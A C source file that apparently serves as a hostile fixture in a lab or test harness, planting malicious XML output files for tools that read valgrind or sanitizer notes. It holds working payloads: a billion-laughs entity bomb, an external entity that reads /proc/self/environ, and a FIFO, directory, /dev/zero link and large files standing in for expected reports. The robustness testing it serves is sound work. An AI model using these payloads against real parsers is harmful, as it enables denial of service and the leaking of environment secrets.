/* SPDX-License-Identifier: MIT */
/* notes-bomb.c - leaves XML in the tools' notes that grows when it is read. */

/*
 * A billion laughs, a deep nesting, a hundred large files, and in the places
 * of others a FIFO, a directory, a link to a device.
 *
 * Lab: 01
 * Checks: bare.echo bare.memory
 * Passes: bare.echo
 */
#include "hostile.h"

static void put(const char *name, const char *content, size_t n, int times)
{
	FILE *f = fopen(name, "w");

	if (!f)
		return;
	while (times-- > 0)
		fwrite(content, 1, n, f);
	fclose(f);
}

static void laugh(const char *name)
{
	FILE *f = fopen(name, "w");

	if (!f)
		return;
	fprintf(f, "<?xml version=\"1.0\"?>\n<!DOCTYPE x [\n"
		   "<!ENTITY a \"ha ha ha ha ha ha ha ha \">\n");
	for (char c = 'b'; c <= 'k'; c++) {
		fprintf(f, "<!ENTITY %c \"", c);
		for (int i = 0; i < 10; i++)
			fprintf(f, "&%c;", c - 1);
		fprintf(f, "\">\n");
	}
	fprintf(f, "<!ENTITY file SYSTEM \"/proc/self/environ\">\n]>\n"
		   "<valgrindoutput><error><what>&k;&file;</what></error>"
		   "</valgrindoutput>\n");
	fclose(f);
}

int main(int argc, char **argv)
{
	int listener = listen_as_told(argc, argv);
	char name[64];

	signal(SIGXFSZ, SIG_IGN);
	if (chdir("../notes") == 0) {
		put("memcheck.2.xml", "<a>", 3, 300000);
		put("memcheck.3.xml",
		    "<valgrindoutput><error><what>\033[31m\377&#1;<b>x</b>"
		    "</what></error></valgrindoutput>\n",
		    80, 1);
		if (mkfifo("memcheck.4.xml", 0600) == 0 &&
		    mkdir("memcheck.5.xml", 0700) == 0 &&
		    symlink("/dev/zero", "memcheck.6.xml") == 0)
			for (int i = 7; i < 100; i++) {
				snprintf(name, sizeof(name), "memcheck.%d.xml",
					 i);
				put(name, "", 0, 0);
				if (truncate(name, 8 << 20) < 0)
					break;
			}
		/* A directory of a tmpfs is read from its newest entry on. */
		laugh("sanitizer.1");
		laugh("memcheck.1.xml");
	}
	return serve_one(listener);
}
